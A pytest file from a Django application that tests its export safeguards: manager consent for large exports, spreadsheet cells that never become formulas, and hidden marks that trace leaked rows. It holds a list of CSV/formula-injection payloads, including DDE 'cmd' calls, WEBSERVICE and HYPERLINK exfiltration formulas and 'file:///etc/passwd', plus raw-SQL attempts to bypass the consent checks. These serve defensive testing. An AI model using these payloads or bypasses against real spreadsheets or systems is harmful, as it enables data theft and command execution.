"""Promise 12: exports are deliberate. Consent above the limit, marks that lead to the person, no formulas."""

import re
from collections.abc import Callable, Iterator, Sequence
from io import BytesIO
from random import Random
from zipfile import ZipFile

import pytest
from django.db import Error as DatabaseError
from django.db import connection, transaction
from xlsxwriter import Workbook

from anchang.apps.offices.models import Staff
from anchang.apps.sharing.actions import decide
from anchang.apps.sharing.choices import ExportList, ExportWay
from anchang.apps.sharing.exporting import Wish, ask_to_export
from anchang.apps.sharing.limits import EXPORT_ROWS_FREE
from anchang.apps.sharing.lists import Column, Range, Row
from anchang.apps.sharing.marks import find_marks, hidden_mark, without_marks
from anchang.apps.sharing.models import Request
from anchang.apps.sharing.papers import Paper
from anchang.apps.sharing.sheets import CELL_CHARACTERS_MAX, marked, sheet, written
from anchang.foundation import clock
from anchang.foundation.embedded_postgres import EmbeddedPostgres
from anchang.foundation.embedded_postgres.provision import connect
from tests.apps.test_exports import people_of
from tests.people import acting
from tests.proofs.figures import Proof, prove, seed, tries

MANY = EXPORT_ROWS_FREE + 1
ASKING = ("lin", "wu", "zhou", "qian", "gao")

# -- consent ----------------------------------------------------------------------------------------

_RESULT = """
INSERT INTO sharing_result
    (office_id, owner_id, request_id, rows, file_bytes, file_sha256, made_at, expires_at)
VALUES (%s, %s, %s, %s, 1, '', now(), now() + interval '1 year')
"""
_FILE = """
INSERT INTO sharing_file (office_id, owner_id, request_id, content, expires_at)
VALUES (%s, %s, %s, 'leaked', now() + interval '1 year')
"""
_JOB = """
INSERT INTO sharing_job (office_id, owner_id, request_id, asked_as, queued_at, outcome, words)
VALUES (%s, %s, %s, %s, now(), '', '')
"""
_DECISION = """
INSERT INTO sharing_decision
    (office_id, owner_id, request_id, asked_as, approved, words, decided_by_id, decided_at)
VALUES (%s, %s, %s, %s, true, '', %s, now())
"""
_REQUEST = """
INSERT INTO sharing_request
    (office_id, owner_id, asked_as, kind, reason, customer_ids, version_ids, with_diary, what, way, filters,
     whole_phones, rows_asked, needs_consent, form_key, asked_at)
VALUES (%s, %s, %s, 'export', '急', '{}', '{}', false, 'customers', 'xlsx', '{}', false, %s, false, %s, now())
RETURNING id
"""


# The ways that the check of the result alone keeps shut; the others meet further locks.
BY_THE_RESULT = {
    "the result alone",
    "a result that claims few rows",
    "a request that says it needs no consent",
    "few rows asked, many made",
}


class Bypass:
    """One person's ways around the manager, in raw SQL as the database role of their post."""

    def __init__(self, person: Staff, request: Request, somebody: Staff) -> None:
        self.person, self.request, self.somebody = person, request, somebody

    def ways(self) -> dict[str, Callable[[], None]]:
        return {
            "the result alone": lambda: self._result(self.request.pk, MANY),
            "a result that claims few rows": lambda: self._result(self.request.pk, 1),
            "a request that says it needs no consent": self._forged_request,
            "few rows asked, many made": self._small_request,
            "deciding on one's own": lambda: self._decide(self.person),
            "signing for a manager": lambda: self._decide(self.somebody),
            "a job of one's own": self._job,
            "the queue": self._queue,
            "a file without a result": self._file,
            "consent for another export": self._other_consent,
        }

    def _run(self, statement: str, *values: object) -> object:
        with connection.cursor() as cursor:
            cursor.execute(statement, list(values))  # type: ignore[arg-type]
            return cursor.fetchone() if cursor.description else None

    def _result(self, request_id: int, rows: int) -> None:
        self._run(_RESULT, self.person.office_id, self.person.pk, request_id, rows)
        self._take(request_id)

    def _take(self, request_id: int) -> None:
        """Lay a file down and take it: the breach is complete when bytes come back."""
        self._run(_FILE, self.person.office_id, self.person.pk, request_id)
        taken = self._run("SELECT sharing_take(%s)", request_id)
        if taken == (None,):
            raise DatabaseError("nothing to take")

    def _ask(self, rows: int) -> int:
        values = (self.person.office_id, self.person.pk, self.person.post, rows, f"bypass-{rows}")
        found = self._run(_REQUEST, *values)
        assert isinstance(found, tuple)
        return int(found[0])

    def _forged_request(self) -> None:
        self._result(self._ask(MANY), MANY)

    def _small_request(self) -> None:
        self._result(self._ask(1), MANY)

    def _decide(self, signer: Staff) -> None:
        asked = self.request
        self._run(_DECISION, asked.office_id, asked.owner_id, asked.pk, asked.asked_as, signer.pk)
        self._result(asked.pk, MANY)

    def _job(self) -> None:
        self._run(_JOB, self.person.office_id, self.person.pk, self.request.pk, self.person.post)

    def _queue(self) -> None:
        if self._run("SELECT sharing_queue(%s)", self.request.pk) == (False,):
            raise DatabaseError("not queued")

    def _file(self) -> None:
        self._take(self.request.pk)

    def _other_consent(self) -> None:
        """Move a consent that was given for one export under another one."""
        self._run(
            "UPDATE sharing_decision SET request_id = %s WHERE owner_id = %s", self.request.pk, self.person.pk
        )
        self._result(self.request.pk, MANY)


def _breaches(person: Staff, request: Request, somebody: Staff) -> tuple[int, list[str]]:
    """How many ways were tried, and which led to a file; each is undone at once."""
    got, ways = [], Bypass(person, request, somebody).ways()
    for name, way in ways.items():
        try:
            with transaction.atomic():
                with acting(person):
                    way()
                    connection.check_constraints()
                got.append(name)
                transaction.set_rollback(True)
        except DatabaseError:
            continue
    return len(ways), got


def _large(by: Staff) -> Request:
    wish = Wish(ExportList.CUSTOMERS, ExportWay.SHEET, Range(), whole_phones=False, reason="核对")
    with transaction.atomic(), acting(by):
        return ask_to_export(wish=wish, form_key="large", by=by, now=clock.now())


@pytest.fixture
def superuser(postgres: EmbeddedPostgres, database_name: str) -> Iterator[Callable[[str], None]]:
    with connect(postgres.connection("superuser", database_name)) as raw:

        def run(statement: str) -> None:
            raw.execute(statement.encode())

        yield run


def test_no_large_export_without_the_managers_consent(
    request: pytest.FixtureRequest,
    committed_db: None,
    everybody: dict[str, Staff],
    superuser: Callable[[str], None],
) -> None:
    with transaction.atomic():
        people_of(everybody["lin"], MANY)
    tried, breaches = 0, list[str]()
    asked = {name: _large(everybody[name]) for name in ASKING}
    assert all(one.needs_consent for one in asked.values())
    for name, one in asked.items():
        somebody = everybody["gao" if name == "qian" else "qian"]
        count, got = _breaches(everybody[name], one, somebody)
        tried, breaches = tried + count, breaches + [f"{name}: {way}" for way in got]
    superuser("DROP TRIGGER sharing_result_is_consented ON sharing_result")
    opened = _breaches(everybody["lin"], asked["lin"], everybody["qian"])[1]
    print(f"without the trigger: {opened}")
    noticed = set(opened) == BY_THE_RESULT
    print(breaches)
    prove(
        request,
        Proof(12, "ways around consent to a large export", tried, len(breaches), "trigger dropped", noticed),
    )


def test_with_consent_the_same_result_is_made(db: None, lin: Staff, qian: Staff) -> None:
    """The refusals above are of what has no consent, and not of everything."""
    people_of(lin, MANY)
    large = _large(lin)
    with acting(qian):
        decide(request=large, approved=True, words="", by=qian, now=clock.now())
    with acting(lin), connection.cursor() as cursor:
        cursor.execute(_RESULT, [lin.office_id, lin.pk, large.pk, MANY])
        assert cursor.rowcount == 1


# -- cells ------------------------------------------------------------------------------------------

_LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "\u200b=",
    "＝",
    "＋",
    "－",
    "＠",
)
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://example.invalid")',
    'IMPORTXML("http://example.invalid","//a")',
    "_xlfn.WEBSERVICE(A1)",
    "{1,2}",
)
_WHOLE = (
    "{=SUM(A1:A2)}",
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "internal:Sheet1!A1",
    "external:c:\\a.xlsx",
    "file:///etc/passwd",
    "<f>1+1</f>",
    '"><f>1</f><c t="s">',
    "]]><f>1</f>",
    "&lt;f&gt;",
    "_x003D_1+1",
    "_x0009_=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "'=1+1",
    'DDE("cmd";"/C calc";"x")',
    "1e9",
    "00123",
    "TRUE",
    "#REF!",
    "\ud800=1+1",
    "\uffff=1+1",
    "=" * 33_000,
    "",
)


def hostile(count: int, random: Random) -> list[str]:
    """Texts that have become formulas, links, numbers or broken files in one program or another."""
    made = [*_WHOLE, *(f"{lead}{body}" for lead in _LEADS for body in _BODIES)]
    while len(made) < count:
        parts = random.choices([*_LEADS, *_BODIES, "\t", "\x0b", "陈一凡", "\U0001f600", '"', "|", ";"], k=4)
        made.append("".join(parts))
    return made[:count]


def _paper(texts: Sequence[str]) -> Paper:
    rows = tuple(Row((text, text), "", "") for text in texts)
    columns = (Column("姓名", 10, marked=True), Column("电话", 10))
    hostile_word = texts[0]
    return Paper(
        "名单", "E1-000000", hostile_word, hostile_word, hostile_word, hostile_word, "\u200b", columns, rows
    )


_CELL = re.compile(r"<c [^>]*?(?:/>|>.*?</c>)", re.DOTALL)
_STRING = re.compile(r"<si>(.*?)</si>", re.DOTALL)


def _faults(content: bytes) -> int:
    """Cells that are anything but text, and parts of the file that reach out of it."""
    with ZipFile(BytesIO(content)) as archive:
        names = archive.namelist()
        cells = _CELL.findall(archive.read("xl/worksheets/sheet1.xml").decode())
    wrong = sum(not re.search(r'\bt="(s|inlineStr)"', cell) or "<f" in cell for cell in cells)
    assert cells
    return wrong + sum("externalLink" in name or "worksheets/_rels" in name for name in names)


def _read_back(content: bytes) -> set[str]:
    """The texts of a sheet, as another program reads them."""
    from python_calamine import CalamineWorkbook

    rows = CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_index(0).to_python()
    return {str(row[1]) for row in rows[3:] if len(row) > 1}


def _naive(texts: Sequence[str]) -> bytes:
    """What is written everywhere: an apostrophe before = + - @, and the library guesses the rest."""
    target = BytesIO()
    workbook = Workbook(target, {"in_memory": True})
    page = workbook.add_worksheet()
    for line, text in enumerate(texts):
        safe = f"'{text}" if text[:1] in "=+-@" and text else text
        page.write(line, 0, written(safe))
    workbook.close()
    return target.getvalue()


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_no_cell_is_ever_a_formula(request: pytest.FixtureRequest) -> None:
    number = seed()
    print(f"PROVE_SEED={number}")
    texts = hostile(tries(500, 20_000), Random(number))
    content = sheet(_paper(texts))
    kept = _read_back(content)
    lost = [text for text in texts if text and written(text).strip() and _shown(text) not in kept]
    print(f"{len(lost)} texts read back otherwise: {[ascii(text) for text in lost[:5]]}")
    breaches, noticed = _faults(content) + len(lost), _faults(_naive(texts)) > 0
    prove(
        request,
        Proof(
            12, "hostile texts in cells, read back", len(texts), breaches, "first-character filter", noticed
        ),
    )


def _shown(text: str) -> str:
    """What a reader of XML makes of a text: line ends are one sign."""
    return written(text).replace("\r\n", "\n").replace("\r", "\n")


# -- marks ------------------------------------------------------------------------------------------

OFFICE = 7
COLUMNS = (Column("客户", 10, marked=True), Column("电话", 10), Column("置业顾问", 10, marked=True))


def _leak(random: Random, mark: str) -> list[str]:
    """One line of a list as it turns up elsewhere: some cells of it, cut, joined, with words around."""
    name = "".join(random.choices("陈林赵钱孙李周吴郑王一二三小大", k=random.randint(2, 4)))
    row = Row((name, f"100****{random.randrange(10_000):04d}", f"林岚 {random.randrange(40)} 号"), "", "")
    cells = marked(row, COLUMNS, mark)
    shape = random.choice(("row", "name", "line", "chat"))
    if shape == "row":
        return list(cells)
    if shape == "name":
        return [cells[0]]
    if shape == "line":
        return ["\t".join(cells)]
    return [f"转发：{cells[0]}这个客户要不要？{cells[1]}"]


def test_a_line_of_a_leaked_list_leads_to_its_export(request: pytest.FixtureRequest) -> None:
    number = seed()
    print(f"PROVE_SEED={number}")
    random, count = Random(number), tries(2_000, 100_000)
    wrong = unwashed = 0
    for _ in range(count):
        export = random.randrange(1, 2**40)
        line = _leak(random, hidden_mark(OFFICE, export))
        wrong += find_marks(OFFICE, [line]).hidden != {export: 1}
        washed = [without_marks(cell) for cell in line]
        unwashed += bool(find_marks(OFFICE, [washed]).hidden)
    prove(
        request,
        Proof(12, "leaked lines led to their export", count, wrong, "marks washed out", unwashed == 0),
    )


def test_a_mark_leaves_the_text_as_it_reads() -> None:
    assert len(written("甲" * 40_000)) == CELL_CHARACTERS_MAX
    assert without_marks(
        "".join(marked(Row(("陈一凡", "1", "林岚"), "", ""), COLUMNS, hidden_mark(1, 1)))
    ) == ("陈一凡1林岚")
